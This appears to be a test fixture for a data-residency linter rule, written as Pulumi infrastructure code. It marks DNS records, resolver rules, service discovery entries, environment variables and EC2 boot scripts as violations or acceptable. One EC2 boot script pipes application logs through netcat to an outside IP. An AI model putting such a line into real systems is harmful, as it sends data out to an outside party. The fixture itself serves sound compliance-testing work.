dataflow("dataflow-foreign-namespace", "oci://fixture-exports@partnerns/out/")

# DNS records route the requests for the name (with its domain's cookies) to what they name.
ZONE = "Z0123456789FIXTURE"
# violation: residency-named-places
aws.route53.Record("dns-cname-partner", zone_id=ZONE, name="api.fixture.example.com",
                   type="CNAME", ttl=300, records=["ingress.partner.example"])  # fmt: skip
# violation: residency-named-places
aws.route53.Record("dns-a-external", zone_id=ZONE, name="login.fixture.example.com", type="A",
                   ttl=300, records=["203.0.113.99"])  # fmt: skip
# ok: residency-named-places
aws.route53.Record("dns-a-private", zone_id=ZONE, name="db.fixture.example.com", type="A",
                   ttl=300, records=["10.0.3.7"])  # fmt: skip
# A TXT or MX record sends no request of the name's users anywhere.
# ok: residency-named-places
aws.route53.Record("dns-mx-mail", zone_id=ZONE, name="fixture.example.com", type="MX", ttl=300,
                   records=["10 inbound-smtp.partner.example"])  # fmt: skip
# A CNAME into the record's own domain is routed by that domain's own records.
# ok: residency-named-places
aws.route53.Record("dns-www-to-apex", zone_id=ZONE, name="www.fixture.example.com",
                   type="CNAME", ttl=300, records=["fixture.example.com"])  # fmt: skip
# An ACM DNS-validation CNAME (an underscore name) is a token's home, not a route.
# ok: residency-named-places
aws.route53.Record("dns-acm-validation", zone_id=ZONE, name="_3f2a.api.fixture.example.com.",
                   type="CNAME", ttl=300,
                   records=["_9c1d.xjkdsl.acm-validations.aws."])  # fmt: skip
# ok: residency-named-places
aws.route53.Record("dns-txt-verification", zone_id=ZONE, name="fixture.example.com", type="TXT",
                   ttl=300, records=["site.verification.partner.example"])  # fmt: skip
# violation: residency-named-places
oci.dns.Rrset("oci-dns-cname-partner", zone_name_or_id="fixture.example.com",
              domain="api.fixture.example.com", rtype="CNAME",
              items=[{"domain": "api.fixture.example.com", "rtype": "CNAME",
                      "rdata": "ingress.partner.example.", "ttl": 300}])  # fmt: skip

# Service-binding records (HTTPS/SVCB): `priority target params`; the target and the address
# hints are where clients go, under an underscore (port-prefixed) name as well.
# violation: residency-named-places
aws.route53.Record("dns-https-partner-target", zone_id=ZONE, name="fixture.example.com",
                   type="HTTPS", ttl=300,
                   records=['1 edge.partner.example. alpn="h2,h3"'])  # fmt: skip
# violation: residency-named-places
aws.route53.Record("dns-svcb-underscore-partner", zone_id=ZONE, name="_api.fixture.example.com",
                   type="SVCB", ttl=300, records=["1 edge.partner.example."])  # fmt: skip
# ok: residency-named-places
aws.route53.Record("dns-https-own-target", zone_id=ZONE, name="fixture.example.com",
                   type="HTTPS", ttl=300,
                   records=['1 . alpn="h2"', "2 edge.fixture.example.com. alpn=h2"])  # fmt: skip
# Lightsail DNS entries, OCI steering-policy answers and Route 53 traffic-policy endpoints
# answer the name's clients as records do.
# violation: residency-named-places
aws.lightsail.DomainEntry("lightsail-dns-cname-partner", domain_name="fixture.example.com",
                          name="api", type="CNAME", target="collect.partner.example")  # fmt: skip
# ok: residency-named-places
aws.lightsail.DomainEntry("lightsail-dns-a-private", domain_name="fixture.example.com",
                          name="db", type="A", target="10.0.3.7")  # fmt: skip
# violation: residency-named-places
oci.dns.SteeringPolicy("oci-steering-public-answer", compartment_id=OCI_COMPARTMENT,
                       display_name="api", template="FAILOVER", ttl=30,
                       answers=[{"name": "main", "rdata": "10.0.2.10", "rtype": "A", "pool": "p1"},
                                {"name": "dr", "rdata": "198.51.100.7", "rtype": "A",
                                 "pool": "p2"}],
                       freeform_tags=OCI_NON_PERSONAL)  # fmt: skip
# ok: residency-named-places
oci.dns.SteeringPolicy("oci-steering-private-answers", compartment_id=OCI_COMPARTMENT,
                       display_name="db", template="FAILOVER", ttl=30,
                       answers=[{"name": "main", "rdata": "10.0.2.10", "rtype": "A", "pool": "p1"}],
                       freeform_tags=OCI_NON_PERSONAL)  # fmt: skip


def traffic_policy(name: str, value: str) -> None:
    aws.route53.TrafficPolicy(name, name=name, document=json.dumps({
        "AWSPolicyFormatVersion": "2015-10-01", "RecordType": "A", "StartEndpoint": "e",
        "Endpoints": {"e": {"Type": "value", "Value": value}}}))  # fmt: skip


# violation: residency-named-places
traffic_policy("traffic-policy-public-endpoint", "198.51.100.7")
# ok: residency-named-places
traffic_policy("traffic-policy-private-endpoint", "10.0.2.10")

# Resolver forward rules: the answers of the resolvers named steer where clients send data.
# violation: residency-named-places
aws.route53.ResolverRule("resolver-forward-public", domain_name="dynamodb.us-east-1.amazonaws.com",
                         rule_type="FORWARD", resolver_endpoint_id="rslvr-out-fixture",
                         target_ips=[{"ip": "203.0.113.53"}], tags=NON_PERSONAL)  # fmt: skip
# ok: residency-named-places
aws.route53.ResolverRule("resolver-forward-onprem", domain_name="corp.internal",
                         rule_type="FORWARD", resolver_endpoint_id="rslvr-out-fixture",
                         target_ips=[{"ip": "10.200.0.2"}], tags=NON_PERSONAL)  # fmt: skip
OCI_STORAGE_HOST = "objectstorage.us-ashburn-1.oraclecloud.com"
# violation: residency-named-places
oci.dns.Resolver("oci-resolver-forward-public",
                 resolver_id="ocid1.dnsresolver.oc1.iad.aaaafixture", scope="PRIVATE",
                 rules=[{"action": "FORWARD", "destination_addresses": ["198.51.100.53"],
                         "source_endpoint_name": "fwd",
                         "qname_cover_conditions": [OCI_STORAGE_HOST]}])  # fmt: skip

# Service discovery: a mesh node found by DNS, a Cloud Map instance's registered address.
MESH = "fixture-mesh"


def mesh_node(name: str, hostname: str) -> None:
    aws.appmesh.VirtualNode(name, mesh_name=MESH, name=name, spec={
        "listeners": [{"port_mapping": {"port": 8080, "protocol": "http"}}],
        "service_discovery": {"dns": {"hostname": hostname}}})  # fmt: skip


# violation: residency-named-places
mesh_node("mesh-node-partner", "users-api.partner.example")
# ok: residency-named-places
mesh_node("mesh-node-private", "users-api.fixture.local")
# violation: residency-named-places
aws.servicediscovery.Instance("cloudmap-external-ip", instance_id="ext-1",
                              service_id="srv-fixture0000000001",
                              attributes={"AWS_INSTANCE_IPV4": "203.0.113.80",
                                          "AWS_INSTANCE_PORT": "8080"})  # fmt: skip
# A custom attribute of a Cloud Map instance is returned to discovering clients as well.
# violation: residency-named-places
aws.servicediscovery.Instance("cloudmap-custom-attr-url", instance_id="ext-2",
                              service_id="srv-fixture0000000001",
                              attributes={"endpoint": "https://collect.partner.example/users",
                                          "region": "us-east-1"})  # fmt: skip
# ok: residency-named-places
aws.servicediscovery.Instance("cloudmap-private-ip", instance_id="int-1",
                              service_id="srv-fixture0000000001",
                              attributes={"AWS_INSTANCE_IPV4": "10.0.4.20",
                                          "AWS_INSTANCE_PORT": "8080"})  # fmt: skip

# Free-form configuration: a value that is wholly a host or a public IP is a place whatever its
# key is called; a dotted instance type or a file name is not.
LAMBDA_ROLE = f"arn:aws:iam::{OURS}:role/fixture-lambda"


def lambda_env(name: str, variables: dict[str, str]) -> None:
    aws.lambda_.Function(name, role=LAMBDA_ROLE, runtime="python3.12", handler="app.handler",
                         code=pulumi.AssetArchive({}), environment={"variables": variables},
                         tags=NON_PERSONAL)  # fmt: skip


# violation: residency-named-places
lambda_env("env-bare-host", {"DEST": "collect.partner.example"})
# violation: residency-named-places
lambda_env("env-bare-public-ip", {"SYSLOG": "198.51.100.7"})
# ok: residency-named-places
lambda_env("env-not-places", {
    "BROKER_INSTANCE_TYPE": "mq.m5.large", "ENTRY": "main.py", "RELEASE": "1.2.3", "MODE": "batch",
    "CACHE": "10.0.2.9"})  # fmt: skip

# Boot scripts: an address the script connects to is a place, as an s3:// URL there is.
# violation: residency-named-places
aws.ec2.Instance("userdata-nc-public-ip", ami="ami-0fixture00000000001", instance_type="t3.micro",
                 user_data="#!/bin/bash\ntail -F /var/log/app.log | nc 203.0.113.9 5140\n",
                 tags=NON_PERSONAL)  # fmt: skip
# ok: residency-named-places
aws.ec2.Instance("userdata-local-only", ami="ami-0fixture00000000001", instance_type="t3.micro",
                 user_data="#!/bin/bash\ncurl -s http://169.254.169.254/latest/meta-data/\n"
                           "bash /opt/install.sh && systemctl restart app.service\n"
                           "echo 10.0.0.2 db >> /etc/hosts\n",
                 tags=NON_PERSONAL)  # fmt: skip

# Lightsail container deployment: the containers' environment configures where they send data.
# violation: residency-named-places
aws.lightsail.ContainerServiceDeploymentVersion(
    "lightsail-env-partner", service_name="fixture-api",
    containers=[{"container_name": "api",
                 "image": f"{OURS}.dkr.ecr.us-east-1.amazonaws.com/api:1.4.2",
                 "environment": {"EVENTS_URL": "https://events.partner.example/v1"}}],
)  # fmt: skip
# ok: residency-named-places
aws.lightsail.ContainerServiceDeploymentVersion(
    "lightsail-env-own", service_name="fixture-api",
    containers=[{"container_name": "api",
                 "image": f"{OURS}.dkr.ecr.us-east-1.amazonaws.com/api:1.4.2",
                 "environment": {"AWS_REGION": "us-east-1", "MODE": "serve"}}],
)  # fmt: skip

# SNS data-protection findings (the matched data's context) to a partner's bucket.
# violation: residency-named-places
aws.sns.DataProtectionPolicy(
    "sns-dlp-findings-partner",
    arn=f"arn:aws:sns:us-east-1:{OURS}:fixture-user-events",
    policy=json.dumps({"Name": "pii", "Version": "2021-06-01", "Statement": [
        {"Sid": "audit", "DataDirection": "Inbound", "Principal": ["*"], "DataIdentifier": [EMAIL],
         "Operation": {"Audit": {"SampleRate": 99,
                                 "FindingsDestination": {"S3": {"Bucket": DLP_BUCKET}}}}},
    ]}),
)  # fmt: skip
